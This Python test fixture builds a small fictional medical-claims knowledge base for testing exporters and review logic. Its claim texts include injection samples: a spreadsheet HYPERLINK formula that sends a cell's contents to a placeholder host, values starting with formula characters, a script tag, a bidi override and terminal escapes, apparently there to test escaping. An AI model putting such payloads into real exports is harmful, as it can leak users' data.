"""A small base built from model objects: one claim of every type, standing and rating, and hostile texts.

Its decisions are by people who do not exist. Of one of its two sources only quotes may go out; one claim is held, and
there are tombstones with and without a successor.
"""

from __future__ import annotations

import hashlib
from datetime import date
from typing import TYPE_CHECKING, Any, TypeVar

from kbtool.export.exporter import Exporter, run_exporters
from kbtool.model.base_config import BaseConfig, Reviewers
from kbtool.model.claim import CLAIM, ClaimBase
from kbtool.model.evidence import Evidence
from kbtool.model.policy import Policy
from kbtool.model.source import Source
from kbtool.model.vocabulary import Vocabulary
from kbtool.records.base import KnowledgeBase, Record
from kbtool.release.artifact import content_of
from kbtool.release.gate import GATES
from kbtool.release.parts import LogState, ReleasedDecision, Tombstone
from kbtool.release.release import Release, make_release
from kbtool.release.reviewed import Reviewed
from kbtool.review.standing import Standing, standing_of

if TYPE_CHECKING:
    from pathlib import Path

    from kbtool.model.base import Model
    from kbtool.model.decision import Verb

M = TypeVar("M", bound="Model")

AS_OF = date(2026, 1, 31)

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"see")'
HOSTILE = (
    FORMULA,
    "+1 is a sum; -2 is another;@both",
    "-5 mg at night",
    "@home use",
    "\uff1d1+1 in wide letters",
    ' "=1+1" behind a blank and a quote',
    "'tis quoted",
    'He said "no", and left,\nthen came back\r\non a second line\t(after a tab)',
    "\u05e9\u05dc\u05d5\u05dd right to left, \u202ehidden turn\u202c",
    "Thumbs up \U0001f44d\U0001f3fd and a family \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "a line separator\u2028and a next line\u0085end, <script>alert(1)</script> & \\ \x1b[31m",
    "70 % of \u00b5g/kg \u2265 1.10 e\u0301\u00e9",
)
"""One text a claim, in the order of the types."""

FIELDS: dict[str, dict[str, Any]] = {
    "definition": {"term": {"as_stated": "a thing"}, "meaning": {"as_stated": FORMULA}},
    "epidemiology": {"condition": {"as_stated": "it"}, "frequency": {"as_stated": "4%", "value": "4", "unit": "%"}},
    "mechanism": {"subject": {"as_stated": "it"}, "knowledge": "not-stated"},
    "efficacy": {
        "intervention": {"as_stated": "it"},
        "outcome": {"as_stated": "relief"},
        "direction": {"as_stated": "may help", "code": "may-improve"},
    },
    "study-finding": {
        "study": {"ref": "untraced-study"},
        "outcome": {"as_stated": "relief"},
        "result": {"as_stated": "70%", "value": "70", "unit": "%"},
    },
    "citation": {"study": {"ref": "untraced-study"}, "venue": "not-stated", "year": {"as_stated": "in 2012"}},
    "safety": {"intervention": {"as_stated": "it"}, "effect": {"as_stated": "nausea"}, "seriousness": "not-stated"},
    "administration": {
        "intervention": {"as_stated": "it"},
        "dose": {"as_stated": "-5 mg", "value": "-5", "unit": "mg"},
    },
    "availability": {"intervention": {"as_stated": "it"}, "extent": {"as_stated": "some clinics"}},
    "cost": {"item": {"as_stated": "it"}, "payer": {"as_stated": "insurers"}},
    "guidance": {"recommendation": {"as_stated": "ask"}, "strength": {"as_stated": "should", "code": "recommends"}},
    "usage": {"agent": {"as_stated": "it"}, "use": {"as_stated": "sleep"}},
}

_TERM = {"label": "A label", "definition": "A definition."}


def _terms(**labels: str) -> dict[str, dict[str, str]]:
    return {name.replace("_", "-"): {**_TERM, "label": label} for name, label in labels.items()}


VOCABULARY = Vocabulary.model_validate(
    {
        "claim_types": {name: {**_TERM, "label": name.capitalize()} for name in FIELDS},
        "caveat_kinds": _terms(limited_evidence="Limited evidence", untraced_citation="Untraced citation"),
        "ratings": _terms(
            supported="Supported",
            partly_supported="Partly supported",
            contradicted="Contradicted",
            unverifiable="Unverifiable",
            not_checkable="Not checkable",
        ),
        "certainty_levels": _terms(low="Low"),
        "stances": _terms(supports="Supports", contradicts="Contradicts", context="Context"),
        "directness": _terms(direct="Direct"),
        "evidence_kinds": _terms(randomised_trial="Randomised trial", bibliographic_trace="Bibliographic trace"),
        "skip_reasons": _terms(heading="Heading"),
        "relation_kinds": _terms(see_also="See also"),
        "directions": _terms(may_improve="May improve"),
        "seriousness": _terms(mild="Mild"),
        "strengths": _terms(recommends="Recommends"),
        "statuses": _terms(
            draft="Draft",
            in_review="In review",
            approved="Approved",
            needs_review="Needs review",
            changes_requested="Changes requested",
            disputed="Disputed",
            withdrawn="Withdrawn",
        ),
        "hedges": {"possibility": {**_TERM, "words": ["may"]}},
        "negations": ["not"],
        "connectives": ["and"],
        "placeholders": ["todo"],
    }
)

CONFIG = BaseConfig.model_validate(
    {
        "title": "A small base",
        "description": "Made for tests.",
        "language": "en",
        "publisher": {"name": "A publisher"},
        "base_url": "https://example.org/claims/",
        "licences": {"data": "CC-BY-4.0", "code": "Apache-2.0", "texts": "their owners'"},
        "schema": {"folder": "schema", "version": "1"},
        "intended_use": {"is_for": "tests", "is_not": ["medical advice"]},
    }
)

SEEN = {"how": "abstract", "at": ["https://example.org/abstract"]}


def claim_of(kind: str, statement: str, *, document: str = "open-text", **changes: Any) -> ClaimBase:
    """A claim of a type, with one caveat of each kind of basis."""
    plain: dict[str, Any] = {
        "id": f"{document}/{kind}",
        "type": kind,
        "statement": statement,
        "polarity": "asserted",
        "hedges": ["may"],
        "source": {"document": document, "quotes": [{"exact": statement, "start": "0", "end": str(len(statement))}]},
        "caveats": [
            {
                "kind": "limited-evidence",
                "text": f"Caveat one of {kind}: {statement}",
                "basis": {"evidence": "a-trial"},
            },
            {"kind": "limited-evidence", "text": "=2+2", "basis": {"quote": {"exact": "may", "prefix": "it "}}},
            {"kind": "untraced-citation", "text": f"Caveat three of {kind}", "basis": {"claim": "open-text/usage"}},
            {"kind": "unknown-kind", "text": "rests on nothing"},
        ],
        "evidence": [{"ref": "a-trial", "stance": "supports", "directness": "direct", "finding": statement}],
        "verdict": {"rating": "supported", "rationale": statement},
        "relations": [{"kind": "see-also", "claim": "open-text/usage"}],
        "drafted": {"by": "editorial", "on": "2026-01-02", "method": "by hand", "machine": "true"},
        "review": {"status": "draft"},
        "tags": ["small"],
        "notes": "SECRET: for editors only",
    }
    return CLAIM.validate_python({**plain, **FIELDS[kind], **changes})


CERTAIN = {
    "rating": "supported",
    "rationale": "as stated",
    "certainty": {"level": "low", "stated_by": "a-trial", "outcome": "relief"},
}


RATINGS = {
    "epidemiology": "partly-supported",
    "mechanism": "contradicted",
    "study-finding": "unverifiable",
    "guidance": "not-checkable",
}
"""The rating of each claim that is not supported, by type."""

STATUSES = {
    "definition": "approved",
    "mechanism": "in-review",
    "efficacy": "approved",
    "study-finding": "approved",
    "citation": "changes-requested",
    "safety": "disputed",
}
"""What the record says, by type, where it is not `draft`; time has run out for the study finding."""


def _changes(kind: str) -> dict[str, Any]:
    verdict = CERTAIN if kind == "efficacy" else {"rating": RATINGS.get(kind, "supported"), "rationale": "as stated"}
    changes = {"verdict": verdict} if kind in RATINGS or kind == "efficacy" else {}
    return changes | ({"review": {"status": STATUSES[kind]}} if kind in STATUSES else {})


def small_claims() -> list[ClaimBase]:
    """One claim of every type, one of a document of which only quotes may go out, two withdrawn, one that is held."""
    pairs = zip(FIELDS, HOSTILE, strict=True)
    claims = [claim_of(kind, text, **_changes(kind)) for kind, text in pairs]
    bare: dict[str, Any] = {"caveats": [], "evidence": [], "relations": []}
    gone = {**bare, "review": {"status": "withdrawn"}}
    claims.append(claim_of("cost", "it costs", document="closed-text", **bare))
    claims.append(claim_of("usage", "was used", document="closed-text", **gone))
    claims.append(claim_of("definition", "was defined", document="closed-text", **gone))
    claims.append(
        claim_of("safety", "it is safe", id="closed-text/held", document="closed-text", **bare | {"evidence": [LOST]})
    )
    return claims


LOST = {"ref": "lost-study", "stance": "context", "directness": "direct", "finding": "nobody can read it"}
"""A link to an evidence record that is not there; a claim with it is held."""

CLINICIAN, EDITOR, READER = "example-clinician", "example-editor", "example-reader"
"""People who do not exist."""

ROLES = {CLINICIAN: ("clinician",), EDITOR: ("copy-editor", "medical-editor"), READER: ("patient",)}

_OLD, _DAY, _LAPSES = date(2024, 1, 10), date(2026, 1, 10), date(2028, 1, 10)


def digest(name: str) -> str:
    """A digest made from a name, so that it is the same wherever the name is."""
    return hashlib.sha256(name.encode()).hexdigest()


def _decision(kind: Verb, reviewer: str, claim: str, on: date = _DAY, *, counts: bool = True) -> ReleasedDecision:
    content, file = digest(f"content of {claim}"), digest(f"{kind} {claim} by {reviewer}")
    return ReleasedDecision(kind, reviewer, ROLES[reviewer], on, content, file, counts)


def _decided(claim: str, *said: tuple[Verb, str], on: date = _DAY) -> tuple[ReleasedDecision, ...]:
    return tuple(_decision(kind, reviewer, claim, on) for kind, reviewer in said)


DECISIONS: dict[str, tuple[ReleasedDecision, ...]] = {
    "open-text/definition": _decided("open-text/definition", ("approve", EDITOR)),
    "open-text/mechanism": _decided("open-text/mechanism", ("approve", CLINICIAN), ("comment", READER)),
    "open-text/efficacy": (
        *_decided("open-text/efficacy", ("approve", CLINICIAN), ("reaffirm", EDITOR)),
        _decision("approve", READER, "open-text/efficacy", counts=False),
    ),
    "open-text/study-finding": _decided("open-text/study-finding", ("approve", CLINICIAN), on=_OLD),
    "open-text/citation": _decided("open-text/citation", ("request-changes", EDITOR)),
    "open-text/safety": _decided("open-text/safety", ("approve", EDITOR), ("dispute", CLINICIAN)),
    "closed-text/usage": _decided("closed-text/usage", ("withdraw", EDITOR)),
}
"""Every decision of the small base, by claim id."""

STANDINGS: dict[str, Standing] = {
    "open-text/definition": Standing("approved", f"approved by {EDITOR}", approvers=(EDITOR,), approved_on=_DAY),
    "open-text/mechanism": Standing("in-review", "not yet approved: approval by a medical-editor is missing"),
    "open-text/efficacy": Standing(
        "approved",
        f"approved by {CLINICIAN}, {EDITOR}",
        approvers=(CLINICIAN, EDITOR),
        approved_on=_DAY,
        lapses_on=_LAPSES,
    ),
    "open-text/study-finding": Standing("needs-review", "the approval of 2024-01-10 lapsed on 2026-01-10"),
    "open-text/citation": Standing("changes-requested", f"{EDITOR} asked for changes on 2026-01-10: =name the year"),
    "open-text/safety": Standing("disputed", f"disputed by {CLINICIAN} on 2026-01-10: <b>not</b> so"),
    "closed-text/usage": Standing("withdrawn", f"withdrawn by {EDITOR} on 2026-01-10: @nobody said so"),
}
"""How each claim stands, by id; those that are not here stand as their record says."""


def small_review() -> Reviewed:
    """The review of the small base."""
    reason, (withdrawal,) = "@nobody said so", DECISIONS["closed-text/usage"]
    return Reviewed(
        standing=lambda claim: STANDINGS.get(claim.id) or standing_of(claim),
        roles=ROLES,
        withdrawn={
            "closed-text/usage": Tombstone("closed-text/usage", _DAY, reason, "closed-text/cost", withdrawal),
        },
        checkpoint=LogState(9, "cm9vdA=="),
        decisions=DECISIONS,
    )


def _evidence() -> list[Evidence]:
    common = {
        "result": "8 of 12",
        "status": {"state": "current", "on": "2026-01-01", "source": "looked up"},
        "checked": {"on": "2026-01-01", "how": "by hand"},
        "notes": "SECRET: for editors only",
    }
    trial = {
        "id": "a-trial",
        "kind": "randomised-trial",
        "citation": {
            "type": "article-journal",
            "title": "=A title that begins badly.",
            "author": [{"family": "Doe", "given": "J"}, {"literal": "et al."}],
            "container-title": "Journal of Tests",
            "volume": "1",
            "issue": "2",
            "page": "3-4",
            "issued": "2011-05",
        },
        "identifiers": {"doi": "10.5555/example", "pmid": "0", "pmcid": "PMC0", "registry": ["NCT00000000"]},
        "seen": SEEN,
    }
    lost = {
        "id": "untraced-study",
        "kind": "bibliographic-trace",
        "citation": {"type": "x"},
        "seen": {"how": "not-seen"},
    }
    unused = {**lost, "id": "cited-by-nobody"}
    return [Evidence.model_validate({**common, **each}) for each in (trial, lost, unused)]


def source_of(document: str, use: str, text: str) -> Source:
    """A source record for a text."""
    raw = text.encode()
    return Source.model_validate(
        {
            "document": document,
            "title": f"[{document}]",
            "language": "en",
            "rights": {"use": use, "holder": "its author", "statement": "for tests"},
            "found": [{"on": "2026-01-01", "note": "made up"}],
            "text": {
                "digest": hashlib.sha256(raw).hexdigest(),
                "bytes": str(len(raw)),
                "characters": str(len(text)),
                "media_type": "text/plain",
                "stored": "2026-01-01",
            },
            "sentences": [["0", "5"]],
            "skipped": [{"exact": "SKIPPED WORDS", "start": "0", "end": "13", "reason": "heading"}],
            "connectives": [{"exact": "JOINING WORDS", "start": "13", "end": "26"}],
        }
    )


TEXTS = {"open-text": "SKIPPED WORDS " + "\n".join(HOSTILE), "closed-text": "A text that may not go out: it costs."}
RIGHTS = {"open-text": "full-text", "closed-text": "quotes-only"}


def record(model: M) -> Record[M]:
    """A record that comes from no file."""
    return Record("no-file.yaml", b"", model)


def base_of(claims: list[ClaimBase]) -> KnowledgeBase:
    """A base of some claims, with the sources and evidence of this module."""
    return KnowledgeBase(
        config=record(CONFIG),
        vocabulary=record(VOCABULARY),
        policy=record(Policy()),
        reviewers=record(Reviewers()),
        sources={name: record(source_of(name, RIGHTS[name], text)) for name, text in TEXTS.items()},
        texts=TEXTS,
        evidence={each.id: record(each) for each in _evidence()},
        claims={claim.id: record(claim) for claim in claims},
    )


def small_release(gate: str = "any") -> Release:
    """The release of the small base through a gate."""
    return make_release(base_of(small_claims()), GATES[gate], AS_OF, review=small_review())


def approved(claim: ClaimBase) -> Standing:
    """Say of any claim that it is approved."""
    return Standing("approved", f"said so of '{claim.id}' in a test")


def files_of(exporter: Exporter, release: Release) -> dict[str, bytes]:
    """The files of one exporter, by path; it may refuse nothing."""
    exported = run_exporters([exporter], release)
    assert exported.refusals == ()
    return {file.path: content_of(file) for file in exported.artifacts}


def outputs(folder: Path) -> dict[str, bytes]:
    """The files below a folder, by relative path."""
    return {
        path.relative_to(folder).as_posix(): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()
    }
